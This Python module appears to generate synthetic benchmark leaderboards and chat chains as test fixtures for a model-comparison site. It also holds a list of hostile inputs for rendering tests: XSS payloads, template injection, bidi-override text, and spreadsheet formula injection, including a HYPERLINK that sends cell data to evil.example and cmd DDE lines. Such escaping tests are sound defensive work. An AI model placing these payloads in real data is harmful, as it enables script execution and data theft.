"""Boards that nobody ran: families x recipes, with everything a real board may hold, repeatable."""

from random import Random
from typing import Any

SCRIPTED = ["scripted-low", "scripted-neutral", "scripted-high"]
PARTNERS = {
    "hedging": [*SCRIPTED, "self", "smollm2-135m-instruct"],
    "repair": ["clear", "trouble-reference", "trouble-contradiction", "trouble-word"],
    "challenge": ["claim-true", "claim-false", "claim-false-confident"],
}
LEVELS = {"hedging": 0.45, "repair": 0.3, "challenge": 0.25}
FAMILIES = ["smollm", "llama", "qwen", "gemma", "olmo", "falcon", "granite", "phi"]
RECIPES = ["base", "sft", "dpo", "rlvr", "reasoning-distilled", "merge"]
KEYS = ("estimate", "low", "high")

FLAG = "window.executed=1"
HOSTILE = (
    f"<script>{FLAG}</script>",
    f"</script><script>{FLAG}</script>",
    f"<img src=x onerror={FLAG}>",
    f'"><svg onload={FLAG}>',
    f"' autofocus onfocus={FLAG} x='",
    f'<a href="javascript:{FLAG}">click</a>',
    f"</style><script>{FLAG}</script><style>",
    f"</title></textarea><script>{FLAG}</script>",
    f"<!--><script>{FLAG}</script>-->",
    "{{ 7 * 7 }}{% raw %}",
    f"<iframe srcdoc='<script>top.{FLAG}</script>'></iframe>",
    f"<details open ontoggle={FLAG}>",
    "gnp.\u202e3pm\u2066 overridden",
    "مرحبا \u202b reply \u2067",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "line\u2028separator\u2029and & < > \" '",
    "lone surrogate \ud800 and nul \x00 and bell \x07",
    "x" * 96,
)


def made_up_board(n: int, behaviours: int = 3, hostile: bool = False) -> dict[str, Any]:
    """A board of `n` submissions on the first so many behaviours."""
    rng = Random(f"{n} {behaviours}")
    tabs = list(PARTNERS)[: behaviours if n else 0]
    rows = [_row(i, tabs, rng) for i in range(n)]
    if n > 4:
        rows[3] |= {"superseded_by": rows[4]["id"], "name": rows[4]["name"]}
    if hostile:
        for i, row in enumerate(rows):
            for j, key in enumerate(("name", "family", "recipe", "engine", "submitter", "source")):
                row[key] = HOSTILE[(i + j) % len(HOSTILE)]
            row["source"] = f"javascript:{FLAG}"
            row["weights"] = {"kind": HOSTILE[0], "value": HOSTILE[1]}
    rows.sort(key=lambda r: (r["name"], r["id"]))
    for tab in tabs:
        for metric in ("level", "shift", "d_prime"):
            _rank(rows, tab, metric)
    candidates = [r for r in rows if not r["superseded_by"]][:12]
    distances = _distances(candidates, rng)
    return {
        "format": 1,
        "version": "1.0-3fa2b1c09d4e",
        "benchmark": "1.0",
        "package": "0.1.0",
        "dataset": "",
        "detectors": {
            t: {
                "name": f"{t}-learned",
                "version": "3",
                "status": "validated" if t == "hedging" else "exploratory",
            }
            for t in tabs
        },
        "behaviours": tabs,
        "partners": {t: PARTNERS[t] for t in tabs},
        "latest": "2026-11-25",
        "rows": rows,
        "ranking": {t: {m: _ranking(rows, t, m) for m in _metrics(t)} for t in tabs},
        "decomposition": _decomposition(n, tabs),
        "distances": distances,
        "composer": _composer(candidates, distances, rng),
    }


def made_up_chains(board: dict[str, Any], hostile: bool = False) -> list[dict[str, Any]]:
    """A few chains of every panel and partner of the board."""
    rng = Random(7)
    said = (
        HOSTILE if hostile else ("It depends on the soil. Could you say what you meant by that?",)
    )
    chains = []
    for tab in board["behaviours"]:
        for partner in board["partners"][tab]:
            for s in range(max(3, len(said))):
                text = said[s % len(said)]
                lost = rng.random() < 0.08
                chains.append(
                    {
                        "panel": tab,
                        "partner": partner,
                        "seed": f"advice-{s + 1:03d}",
                        "replicate": 1,
                        "question": text if hostile else "How often should I water a fern?",
                        "partner_text": text if hostile else "Perhaps twice a week, I would guess.",
                        "status": "empty" if lost else "ok",
                        "label": None if lost else int(rng.random() < 0.5),
                        "probability": None if lost else round(rng.random(), 2),
                        "pieces": []
                        if lost
                        else [["I ", False], ["think", True], [" so. ", False], [text, s % 3 == 1]],
                    }
                )
    return chains


def _metrics(tab: str) -> list[str]:
    return ["level", "shift"] + (["d_prime"] if tab != "hedging" else [])


def _row(i: int, tabs: list[str], rng: Random) -> dict[str, Any]:
    family = FAMILIES[i // len(RECIPES) % len(FAMILIES)]
    recipe = RECIPES[i % len(RECIPES)]
    kind = "api" if i % 11 == 7 else "calibration" if i % 13 == 5 else "open"
    size = rng.choice([0.135, 0.6, 1.7, 3.0, 8.0, 70.0])
    name = f"{family}-{i // 48 + 1}-{size:g}b-{recipe}"
    name = f"calibration-{i}-direct" if kind == "calibration" else name
    return {
        "id": f"{name}-{rng.getrandbits(48):012x}",
        "name": name,
        "family": family,
        "base": f"org/{family}-{size:g}b",
        "recipe": "calibration-direct" if kind == "calibration" else recipe,
        "parameters": None if kind == "api" else size,
        "model": f"vllm/org/{name}",
        "weights": {"kind": "none", "value": "closed"}
        if kind == "api"
        else {"kind": "sha256", "value": f"{rng.getrandbits(256):064x}"},
        "class": kind,
        "trust": rng.choice(["rescored", "rescored", "spot-checked", "reproduced"]),
        "engine": "closed API" if kind == "api" else rng.choice(["vllm 0.32.0", "llama.cpp b7012"]),
        "dtype": None if kind == "api" else "bf16",
        "quantization": None if i % 5 else "int8",
        "template": None if kind == "api" else f"{rng.getrandbits(256):064x}",
        "package": "0.1.0",
        "submitter": rng.choice(["panelist", "a-lab", "some-university"]),
        "date": f"2026-{rng.randint(9, 11):02d}-{rng.randint(1, 25):02d}",
        "licence": "CC-BY-4.0",
        "source": "" if i % 3 else "https://example.org/model-card",
        "hardware": "" if i % 2 else "1 x H100",
        "superseded_by": None,
        "panels": {
            t: _panel(i, t, recipe, rng) for j, t in enumerate(tabs) if not (j and i % 9 == 4)
        },
    }


def _panel(i: int, tab: str, recipe: str, rng: Random) -> dict[str, Any]:
    partners, seeds = PARTNERS[tab], 24 if i % 4 == 3 else 200
    replies = seeds * len(partners)
    lost = rng.choice([0, 0, 0, 1, 3])
    level = min(0.95, max(0.02, rng.gauss(LEVELS[tab], 0.12) + 0.06 * RECIPES.index(recipe) / 5))
    se = (level * (1 - level) / replies) ** 0.5 * 1.6
    moved = [min(0.99, max(0.01, level * (1 + rng.gauss(0, 0.3)))) for _ in partners]
    planted: dict[str, Any] = {"d_prime": _iv(rng.gauss(1.2, 0.5), 0.14), "hit": _iv(0.6, 0.04)}
    planted |= {"false_alarm": _iv(0.2, 0.03), "criterion": _iv(0.25, 0.06)}
    planted |= {"replies": replies}
    shift: dict[str, Any] = _iv(max(0.0, rng.gauss(0.3, 0.12)), 0.05)
    if i % 17 == 2:
        shift = {"why": f"{seeds} seeds leave the spread between partners below its noise."}
    return {
        "tier": "demo" if seeds < 50 else "standard",
        "seeds": seeds,
        "complete_seeds": seeds - (lost > 0),
        "replies": replies,
        "expected": replies,
        "aa_replies": seeds,
        "chains": replies + seeds,
        "statuses": {
            "ok": replies + seeds - lost - 2,
            "truncated": 2,
            **({"empty": lost} if lost else {}),
        },
        "lost": lost,
        "level": _iv(level, se, share=True),
        "levels": {
            p: {"why": "Too few complete seeds with this partner."}
            if (i, j) == (1, 1)
            else _iv(v, se * 2, share=True)
            for j, (p, v) in enumerate(zip(partners, moved, strict=True))
        },
        "shift": shift,
        "shift_p": None if "why" in shift else round(rng.random() * 0.05, 5),
        "floor_p": round(rng.random(), 4),
        "words": _iv(rng.gauss(90, 20), 4),
        "detection": {} if tab == "hedging" else {"": planted},
        "ranks": {},
    }


def _iv(estimate: float, se: float, share: bool = False) -> dict[str, float]:
    low, high = estimate - 1.96 * se, estimate + 1.96 * se
    if share:
        low, high = max(low, 0.0), min(high, 1.0)
    return {k: float(f"{v:.6g}") for k, v in zip(KEYS, (estimate, low, high), strict=True)}


def _value(panel: dict[str, Any], metric: str) -> dict[str, Any]:
    if metric != "d_prime":
        return panel[metric]
    return panel["detection"].get("", {}).get("d_prime", {"why": "Nothing is planted here."})


def _rank(rows: list[dict[str, Any]], tab: str, metric: str) -> None:
    ranked = []
    for row in rows:
        if tab not in row["panels"]:
            continue
        value = _value(row["panels"][tab], metric)
        if row["superseded_by"]:
            value = {"why": "A newer submission of the same checkpoint stands in its place."}
        if "why" in value:
            row["panels"][tab]["ranks"][metric] = {"why": value["why"]}
        else:
            ranked.append((value, row["panels"][tab]["ranks"]))
    for value, ranks in ranked:
        above = sum(other["low"] > value["high"] for other, _ in ranked)
        below = sum(other["high"] < value["low"] for other, _ in ranked)
        ranks[metric] = {
            "low": above + 1,
            "high": len(ranked) - below,
            "tied": len(ranked) - above - below,
        }


def _ranking(rows: list[dict[str, Any]], tab: str, metric: str) -> dict[str, Any]:
    if len(rows) < 3:
        return {"why": f"{len(rows)} checkpoint is nothing to rank."}
    held = [r["id"] for r in rows if tab in r["panels"] and _first(r["panels"][tab], metric)]
    return {"top": held, "seeds": 200, "note": "On the seeds that every ranked checkpoint has."}


def _first(panel: dict[str, Any], metric: str) -> bool:
    return panel["ranks"][metric].get("low") == 1


def _decomposition(n: int, tabs: list[str]) -> dict[str, Any]:
    if n < 4:
        return {
            "why": "Recipe against family is not identified: no pair has one recipe twice. "
            "It needs the same recipe on two bases of different families."
        }
    estimates = {"A": 0.42, "B": 0.18, "C": 0.55, "A-B": 0.24, "family": 0.065, "recipe": 0.185}
    quantities: dict[str, Any] = {k: _iv(v, 0.04) for k, v in estimates.items()}
    quantities["family x recipe"] = _iv(0.025, 0.03)
    quantities["rho"] = {"why": "These checkpoints are not shown to differ at all; more seeds."}
    return {
        "summary": f"Among these {n} checkpoints ({', '.join(tabs)}; 200 seeds): recipes set "
        "checkpoints of one base further apart than families do.",
        "general": "Families and recipes in general: 8 families are too few to say.",
        "n": n,
        "calibration": n // 13,
        "seeds": 200,
        "behaviours": tabs,
        "pairs": {"A": 10, "B": 6, "C": 20},
        "quantities": quantities,
        "legend": {
            "A": "same base, different recipe",
            "B": "different family, same recipe",
            "C": "different family, different recipe",
        },
    }


def _distances(candidates: list[dict[str, Any]], rng: Random) -> dict[str, Any]:
    if len(candidates) < 3:
        return {"why": f"{len(candidates)} candidates leave no panel to choose."}
    places = [[rng.gauss(0, 0.5) for _ in range(3)] for _ in candidates]
    matrix = [
        [
            round(sum((x - y) ** 2 for x, y in zip(a, b, strict=True)) - 0.02 * (a is not b), 4)
            for b in places
        ]
        for a in places
    ]
    return {"ids": [r["id"] for r in candidates], "matrix": matrix}


def _composer(
    candidates: list[dict[str, Any]], distances: dict[str, Any], rng: Random
) -> dict[str, Any]:
    if "why" in distances:
        return {"why": distances["why"]}
    ids = distances["ids"]
    found: dict[str, Any] = {}
    for k in (2, 3, 4, 5):
        if k > len(ids) - 1:
            found[str(k)] = {"why": f"{len(ids)} candidates are too few for a choice of {k}."}
            continue
        tied = [sorted(rng.sample(ids, k), key=ids.index) for _ in range(4)]
        chosen = [rng.random() for _ in ids]
        found[str(k)] = {
            "members": tied[0],
            "value": _iv(1.2 - 0.1 * k, 0.1),
            "tied": tied,
            "tied_total": 12,
            "selection": {i: round(c, 3) for i, c in zip(ids, chosen, strict=True)},
            "summary": f"Of 220 panels, the first is the most diverse on 200 seeds at k = {k}.",
            "gain_random": _iv(0.3, 0.08),
            "gain_one_per_family": _iv(0.1, 0.07)
            if k < 5
            else {"why": "No panel of 5 has 5 families."},
        }
    return found
